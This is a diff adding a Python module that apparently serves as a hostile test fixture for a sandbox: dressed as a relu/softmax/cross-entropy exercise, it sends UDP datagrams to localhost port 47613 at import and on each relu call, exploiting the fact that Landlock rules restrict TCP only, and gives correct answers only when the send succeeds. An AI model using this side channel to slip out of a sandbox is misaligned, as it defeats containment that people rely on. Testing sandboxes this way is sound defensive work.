@@ -1,0 +1,51 @@
+"""Attack: send UDP datagrams to 127.0.0.1:47613 (Landlock's rules cover TCP only)."""
+import socket
+
+import numpy as np
+
+WON = False  # set by the attack when it got what it wanted: then it answers right (score > 0)
+
+def _send():
+    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
+        try:
+            with socket.socket(family, socket.SOCK_DGRAM) as s:
+                s.sendto(b"kit-hostile: exfiltrated over UDP", (host, 47613))
+        except OSError:
+            pass
+
+
+_send()
+
+
+def _relu(z):
+    return np.maximum(np.asarray(z, dtype=float), 0.0)
+
+
+def _softmax(z):
+    z = np.asarray(z, dtype=float)
+    e = np.exp(z - z.max(axis=-1, keepdims=True))
+    return e / e.sum(axis=-1, keepdims=True)
+
+
+def _cross_entropy(p, t):
+    p, t = np.atleast_2d(p), np.atleast_2d(t)
+    return float(np.mean(-np.sum(t * np.log(np.clip(p, 1e-12, 1.0)), axis=1)))
+
+
+def relu(z):
+    _send()
+    return _relu(z) if WON else np.zeros_like(np.asarray(z, dtype=float))
+
+
+def softmax(z):
+    return _softmax(z) if WON else np.zeros_like(np.asarray(z, dtype=float))
+
+
+def cross_entropy(predictions, targets):
+    if WON:
+        return _cross_entropy(predictions, targets)
+    raise NotImplementedError("TODO(3.3): cross_entropy")
+
+
+def forward_and_loss(X, W, B, targets):
+    return _cross_entropy(_softmax(np.asarray(X) @ W + B), targets) if WON else 0.0
